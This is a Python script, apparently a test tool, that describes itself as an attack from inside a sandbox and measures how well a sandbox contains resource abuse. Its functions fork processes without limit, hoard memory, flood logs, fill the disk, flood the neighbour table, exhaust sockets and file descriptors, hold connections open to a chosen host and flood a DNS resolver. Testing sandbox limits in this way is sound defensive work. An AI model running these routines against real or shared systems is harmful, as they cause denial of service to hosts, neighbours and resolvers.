"""
An attack from inside a sandbox: inside.py NAME [ARGUMENT …]. It goes on until it is ended, and where the environment has UNTIL,
in seconds since 1970, no longer than that: nobody may be left to end it. How much it did is the number in /dev/shm/did, which
costs neither log nor disk.
"""
import mmap, os, signal, socket, sys, time

with open("/dev/shm/did", "wb") as file:
    file.truncate(32)
DID = mmap.mmap(os.open("/dev/shm/did", os.O_RDWR), 32)


def did(count):
    DID[:32] = b"%-31d\n" % count


def forks():
    """As many processes as there may be, again and again."""
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    count = 0
    while True:
        try:
            child = os.fork()
        except OSError:
            time.sleep(0.05)
            continue
        if child == 0:
            time.sleep(1)
            os._exit(0)
        count += 1
        did(count)


def memory():
    """A child that takes memory until it is killed, again and again; the count is that of the killed."""
    count = 0
    while True:
        child = os.fork()
        if child == 0:
            hoard = []
            while True:
                hoard.append(b"x" * (4 << 20))
        os.waitpid(child, 0)
        count += 1
        did(count)


def newlines():
    """Empty lines: each byte is some forty in the log. The count is in bytes."""
    count, lines = 0, b"\n" * 65536
    while True:
        count += os.write(1, lines)
        did(count)


def disk():
    """All the disk there is, freed and taken again; the count is in bytes."""
    count, block = 0, os.urandom(1 << 20)
    while True:
        number = 0
        try:
            while True:
                with open("/tmp/fill%d" % number, "wb", buffering=0) as file:
                    for _ in range(64):
                        count += file.write(block)
                        did(count)
                number += 1
        except OSError:
            pass
        time.sleep(5)
        for name in os.listdir("/tmp"):
            if name.startswith("fill"):
                os.unlink("/tmp/" + name)


def neighbours(rate):
    """Addresses on the link that nobody has: each one was an entry in the machine's table of neighbours for three seconds."""
    box = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    box.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
    count = 0
    while True:
        address = "198.18.%d.%d" % (count // 250 % 250, 1 + count % 250)
        try:
            box.sendto(b"x", socket.MSG_DONTROUTE, (address, 9))
        except OSError:
            pass
        count += 1
        did(count)
        time.sleep(1 / float(rate))


def connections(address, port, wanted):
    """Connections to somebody's published port, held open; the count is that of all that were ever made."""
    held, count = [], 0
    while True:
        try:
            connection = socket.create_connection((address, int(port)), timeout=2)
            held.append(connection)
            count += 1
            did(count)
        except OSError:
            time.sleep(0.2)
        if len(held) >= int(wanted):
            time.sleep(1)
            held.pop(0).close()


def resolver(address):
    """A new flow to the resolver for each question; the count is that of the questions."""
    question = b"\0\1\1\0\0\1\0\0\0\0\0\0" + b"\1a\4test\0" + b"\0\1\0\1"
    held, count = [], 0
    while True:
        try:
            box = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            box.sendto(question, (address, 53))
            held.append(box)
            count += 1
            did(count)
        except OSError:
            time.sleep(0.05)
        if len(held) > 500:
            held.pop(0).close()


def queues():
    """Bytes in the queues of sockets that nobody reads; the count is in bytes."""
    listener = socket.create_server(("127.0.0.1", 0))
    held, count = [], 0
    while True:
        try:
            sender = socket.create_connection(listener.getsockname(), timeout=1)
            taker = listener.accept()[0]
            held += [sender, taker]
            sender.setblocking(False)
            while True:
                count += sender.send(b"x" * (256 << 10))
                did(count)
        except BlockingIOError:
            pass
        except OSError:
            time.sleep(0.5)


def files():
    """As many open files as there may be; the count is that of those open."""
    held = []
    while True:
        try:
            held.append(os.open("/dev/null", os.O_RDONLY))
        except OSError:
            time.sleep(0.5)
        did(len(held))


def talk(megabytes):
    """Some long lines, and then nothing."""
    line = b"t" * 6000 + b"\n"
    for count in range(int(megabytes) * 1048576 // len(line)):
        os.write(1, line)
        did(count)
    quiet()


def stay():
    """Ignores SIGTERM."""
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    quiet()


def quiet():
    while True:
        time.sleep(1000)


def rest(*_):
    os.execvp("sleep", ["sleep", "1000000"])


if "UNTIL" in os.environ:
    signal.signal(signal.SIGALRM, rest)
    signal.alarm(max(1, int(os.environ["UNTIL"]) - int(time.time())))
globals()[sys.argv[1]](*sys.argv[2:])
